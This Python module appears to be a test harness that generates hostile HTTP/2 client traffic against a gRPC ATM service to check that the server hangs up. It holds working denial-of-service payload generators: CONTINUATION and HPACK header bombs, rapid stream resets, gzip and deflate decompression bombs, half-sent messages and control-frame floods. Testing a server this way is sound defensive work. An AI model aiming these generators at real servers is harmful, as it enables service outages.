"""What a hostile client sends. Each attack is a generator of byte strings for one connection, which ends by itself."""

import dataclasses
import gzip
import itertools
import struct
from collections.abc import Callable

from http2 import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NEXT_REQUEST, PING, PREFACE, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, first_request, frame, literal, message, number, remembered,
)  # fmt: skip

DEPOSIT = b"/atm.v1.AtmService/Deposit"
BATCH = b"/atm.v1.AtmService/ExecuteBatch"
HELLO = PREFACE + frame(SETTINGS, 0, 0)
MIB = 1 << 20


@dataclasses.dataclass(frozen=True)
class Attack:
    what: str
    bytes: Callable  # returns what one connection sends
    connections: int = 1  # at once
    reads: bool = True  # reads what comes back
    is_ended: bool = True  # whether the server must hang up


def in_blocks(frames, size=MIB):
    """Joins frames to blocks, which go out by few calls."""
    block, length = [], 0
    for one in frames:
        block.append(one)
        length += len(one)
        if length >= size:
            yield b"".join(block)
            block, length = [], 0
    yield b"".join(block)


def streams(count):
    return range(1, 2 * count, 2)


def continuation(block, most=512 * MIB, opening=b""):
    """Headers that never end, in frames of this block."""
    yield HELLO + frame(HEADERS, 0, 1, first_request(DEPOSIT) + opening)
    one = frame(CONTINUATION, 0, 1, block) * max(1, MIB // (len(block) + 9))
    yield from itertools.repeat(one, most // len(one))


def many_headers():
    return continuation(literal(b"a", b"b") * 300)


def indexed_headers():
    """One byte a header, which takes 64 bytes of memory."""
    return continuation(b"\xbe" * 110, opening=remembered(b"x", b"y" * 80))


def endless_header(frame_bytes, most):
    """One header of 8 MiB in small frames: each is joined to all before it, again and again."""
    return continuation(b"x" * frame_bytes, most, b"\x00\x01x" + number(8 * MIB, 7))


def endless_number():
    """A length that never ends."""
    return continuation(b"\x80" * 64, 64 * MIB, b"\x00\x7f")


def reset(count=1_000_000):
    """Calls that are taken back at once."""
    yield HELLO
    yield frame(HEADERS, END_HEADERS, 1, first_request(DEPOSIT)) + frame(RST_STREAM, 0, 1, bytes(4))

    def one(stream):
        return frame(HEADERS, END_HEADERS, stream, NEXT_REQUEST) + frame(RST_STREAM, 0, stream, bytes(4))

    yield from in_blocks((one(stream) for stream in streams(count)[1:]), MIB // 8)


def made_to_reset(count=1_000_000):
    """Calls that the server takes back, since a frame of them is wrong."""
    yield HELLO
    wrong = b"\xff" * 5  # a message that is neither compressed nor not
    yield frame(HEADERS, END_HEADERS, 1, first_request(DEPOSIT)) + frame(DATA, END_STREAM, 1, wrong)

    def one(stream):
        return frame(HEADERS, END_HEADERS, stream, NEXT_REQUEST) + frame(DATA, END_STREAM, stream, wrong)

    yield from in_blocks((one(stream) for stream in streams(count)[1:]), MIB // 8)


def open_calls(count=5_000, path=DEPOSIT, more=b""):
    """Calls whose request never comes. The settings are not acknowledged, so that the limit does not hold."""
    yield HELLO + frame(HEADERS, END_HEADERS, 1, first_request(path)) + (frame(DATA, 0, 1, more) if more else b"")

    def one(stream):
        headers = frame(HEADERS, END_HEADERS, stream, NEXT_REQUEST)
        return headers + (frame(DATA, 0, stream, more) if more else b"")

    yield from in_blocks((one(stream) for stream in streams(count)[1:]), MIB // 8)


def half_messages(count=900):
    """Requests of 8 MiB whose last byte never comes."""
    yield HELLO + frame(SETTINGS, ACK, 0)
    size = 8 * MIB - 64
    head = struct.pack(">BI", 0, size)
    path = first_request(BATCH)
    for stream in streams(count):
        yield frame(HEADERS, END_HEADERS, stream, path) + frame(DATA, 0, stream, head)
        path = NEXT_REQUEST
    part = bytes(16_384)
    for _ in range(size // len(part)):
        for stream in streams(count):
            yield frame(DATA, 0, stream, part)


def compressed(algorithm=b"gzip", count=600):
    """Requests of 8 KB that inflate to 8 MB."""
    bomb = message(gzip.compress(bytes(8 * MIB - 1024), 9), compressed=True)
    yield HELLO + frame(SETTINGS, ACK, 0)
    path = first_request(BATCH)
    for stream in streams(count):
        headers = path + literal(b"grpc-encoding", algorithm)
        yield frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, bomb)
        path = NEXT_REQUEST


def flood(one, most=64 * MIB):
    """The same frame again and again."""

    def blocks():
        yield HELLO + frame(SETTINGS, ACK, 0) + frame(HEADERS, END_HEADERS, 1, first_request(DEPOSIT))
        block = one * (MIB // len(one))
        yield from itertools.repeat(block, most // len(block))

    return blocks


ATTACKS = {
    "continuation": Attack("headers without end, 300 in a frame", many_headers),
    "continuation-indexed": Attack("headers without end, a byte each", indexed_headers),
    "hpack": Attack("a header of 8 MiB in frames of 4 KiB", lambda: endless_header(4096, 9 * MIB)),
    "hpack-small": Attack("the same in frames of 16 bytes", lambda: endless_header(16, 16 * MIB)),
    "hpack-number": Attack("a length without end", endless_number),
    "reset": Attack("a million calls, each taken back at once", reset),
    "made-to-reset": Attack("a million calls with a wrong frame", made_to_reset),
    "open-calls": Attack("20 x 5,000 open calls", open_calls, connections=20),
    "open-watches": Attack(
        "20 x 5,000 watches of transactions, unread",
        lambda: open_calls(path=b"/atm.v1.AtmService/WatchTransactions", more=message(b"")),
        connections=20,
        reads=False,
    ),
    "half-messages": Attack("900 requests of 8 MiB without their last byte", half_messages, connections=4),
    "gzip": Attack("600 requests of 8 KB that inflate to 8 MB", compressed, connections=4, is_ended=False),
    "deflate": Attack(
        "the same, called deflate", lambda: compressed(b"deflate"), connections=4, is_ended=False
    ),
    "ping": Attack("PING without end", flood(frame(PING, 0, 0, bytes(8)))),
    # The server reads no more of it than it can answer: it costs nothing, and may stay.
    "settings": Attack("SETTINGS without end, unread", flood(frame(SETTINGS, 0, 0)), reads=False, is_ended=False),
    "priority": Attack("PRIORITY without end", flood(frame(PRIORITY, 0, 1, bytes(5)))),
    "empty-data": Attack("empty DATA without end", flood(frame(DATA, 0, 1))),
    "window": Attack("WINDOW_UPDATE without end", flood(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))),
    "unknown": Attack("frames of an unknown kind without end", flood(frame(0x55, 0, 0, bytes(64)))),
}
